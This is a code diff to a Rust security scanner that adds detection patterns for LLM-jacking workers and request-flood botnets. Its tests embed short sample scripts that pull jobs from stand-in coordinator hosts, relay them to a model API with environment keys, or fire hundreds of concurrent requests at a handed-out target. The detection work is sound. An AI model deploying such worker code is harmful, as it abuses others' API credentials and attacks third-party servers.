@@ -48,7 +48,7 @@ static FOREVER: LazyLock<Regex> = LazyLock::new(|| {
 /// The prompt or model comes from a received object, not from the code.
 static JOB_FIELDS: LazyLock<Regex> = LazyLock::new(|| {
     crate::rx::re(
-        r#"\[\s*["'](messages|prompt)["']\s*\]|\.get\(\s*["'](messages|prompt|model|max_tokens)["']|\b[a-z]\w*\.(messages|prompt)\s*[,}\)]"#,
+        r#"\[\s*["'](messages|prompt|body|payload)["']\s*\]|\.get\(\s*["'](messages|prompt|model|max_tokens)["']|\b[a-z]\w*\.(messages|prompt)\s*[,}\)]"#,
     )
 });
 /// A path or host that hands out work.
@@ -110,7 +110,9 @@ pub fn scan(src: &Src, sink: &mut Sink) {
     };
     let forever = FOREVER.is_match(text);
     let uses_llm = LLM_KEY.is_match(text) || urls.iter().any(|u| llm_host(&u.3));
-    let jobish = JOBISH.is_match(url) || JOBISH.is_match(line_of(text, *start));
+    let jobish = JOBISH.is_match(url)
+        || JOBISH.is_match(line_of(text, *start))
+        || constant_paths_jobish(text, line_of(text, *start));
     if forever && uses_llm && jobish && JOB_FIELDS.is_match(text) {
         let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, *url)
             .tag(Tag::RemoteJobs)
@@ -139,16 +141,46 @@ fn line_of(text: &str, at: usize) -> &str {
     &text[start..end]
 }
 
+/// `NET = "https://net.example/api"` then `${NET}/tasks`, `f"{NET}/jobs"`,
+/// `NET + "/queue"`: the constant a server URL is assigned to names it
+/// where it hands out work.
+fn constant_paths_jobish(text: &str, line: &str) -> bool {
+    let Some(name) = CONST_NAME.captures(line).and_then(|c| c.get(1)) else {
+        return false;
+    };
+    let name = name.as_str();
+    text.match_indices(name)
+        .filter(|(i, _)| {
+            let before = text[..*i].chars().next_back();
+            let after = text[i + name.len()..].chars().next();
+            !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
+                && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
+        })
+        .any(|(i, _)| {
+            let rest = crate::text::slice(text, i + name.len(), i + name.len() + 24);
+            let path: &str = rest
+                .trim_start_matches(['}', ')', ' ', '+', '"', '\'', '`'])
+                .split(['"', '\'', '`', '?', ')', ' ', '\n'])
+                .next()
+                .unwrap_or("");
+            path.starts_with('/') && JOBISH.is_match(path)
+        })
+}
+
+static CONST_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(r"^\s*(?:export\s+)?(?:const\s+|let\s+|var\s+)?([A-Za-z_]\w*)\s*(?::[^=]*)?=")
+});
+
 /// A fan-out the server sets (`job.get("concurrency", 800)`,
 /// `job.workers || 500`) at a target it hands out (`job["target"]`).
 static SERVER_FANOUT: LazyLock<Regex> = LazyLock::new(|| {
     crate::rx::re(
-        r#"(?i)["'](concurrency|threads|workers|connections|parallel|rps)["']\s*,\s*(\d{2,6})|\.(concurrency|threads|workers|connections|parallel|rps)\s*(?:\|\||\?\?|or)\s*(\d{2,6})"#,
+        r#"(?i)["'](concurrency|threads|workers|connections|parallel|rps)["']\s*,\s*(\d{2,6})|\.(concurrency|threads|workers|connections|parallel|rps)\s*(?:\|\||\?\?|or)\s*(\d{2,6})|\{[^}]*\b(concurrency|threads|workers|connections|parallel|rps)\s*=\s*(\d{2,6})\s*[,}]"#,
     )
 });
 static JOB_TARGET: LazyLock<Regex> = LazyLock::new(|| {
     crate::rx::re(
-        r#"\[\s*["'](target|targets|url|urls|host)["']\s*\]|\.get\(\s*["'](target|targets|url|urls|host)["']|\b(job|task|order|cmd)\.(target|targets|url|host)\b"#,
+        r#"\[\s*["'](target|targets|url|urls|host)["']\s*\]|\.get\(\s*["'](target|targets|url|urls|host)["']|\b(job|task|order|cmd)\.(target|targets|url|host)\b|\{[^}]*\b(target|targets|url|urls|host)\b[^}]*\}\s*=\s*(job|task|order|cmd)\b"#,
     )
 });
 
@@ -159,7 +191,13 @@ fn server_fanout(text: &str) -> Option<(usize, String)> {
         return None;
     }
     SERVER_FANOUT.captures_iter(text).find_map(|c| {
-        let n: u32 = c.get(2).or_else(|| c.get(4))?.as_str().parse().ok()?;
+        let n: u32 = c
+            .get(2)
+            .or_else(|| c.get(4))
+            .or_else(|| c.get(6))?
+            .as_str()
+            .parse()
+            .ok()?;
         (n >= MIN_FANOUT).then(|| {
             (
                 c.get(0).map_or(0, |m| m.start()),
@@ -211,6 +249,28 @@ mod tests {
     }
 
     const JACK: &str = "POOL = 'https://pool.warm.example/api/jobs'\nkey = os.environ['OPENAI_API_KEY']\nwhile True:\n    for j in post(POOL, {})['jobs']:\n        out = post('https://api.openai.com/v1/chat/completions', {'messages': j['messages']}, key)\n        post(POOL, out)\n    time.sleep(1)\n";
+
+    #[test]
+    fn a_server_named_by_its_constant_with_a_jobs_path_hands_out_work() {
+        // LLM-jacking: the job body is sent as is to the model API.
+        let py = "COORD = 'https://batch.coop.example/v1'\nkeys = {k: os.environ[k] for k in ('OPENAI_API_KEY',)}\nwhile True:\n    for j in requests.get(f'{COORD}/jobs').json():\n        out = requests.post('https://api.openai.com/v1/chat/completions', json=j['body']).json()\n        requests.post(f'{COORD}/result', json=out)\n";
+        assert!(
+            run("w.py", py)
+                .iter()
+                .any(|e| e.object.contains("LLM-jacking"))
+        );
+        // Flood: targets and fan-out destructured from the task.
+        let js = "const NET = 'https://net.mesh.example/api';\nasync function verify(task) {\n  const { target, concurrency = 512 } = task;\n  const w = async () => { while (Date.now() < end) { await fetch(target); } };\n  await Promise.all(Array.from({ length: concurrency }, w));\n}\nfor (;;) {\n  const tasks = await (await fetch(`${NET}/tasks`)).json();\n  await Promise.all(tasks.map(verify));\n}\n";
+        assert!(
+            run("p.mjs", js)
+                .iter()
+                .any(|e| e.instrument == "request flood")
+        );
+        // Near miss: the same constant used only for a status path, and a
+        // job body never sent to a model API.
+        let quiet = "NET = 'https://net.mesh.example/api'\nwhile True:\n    s = requests.get(f'{NET}/status').json()\n    print(s['body'])\n    time.sleep(60)\n";
+        assert!(run("q.py", quiet).is_empty());
+    }
 
     #[test]
     fn llm_jacking_fires_and_a_chat_bot_does_not() {
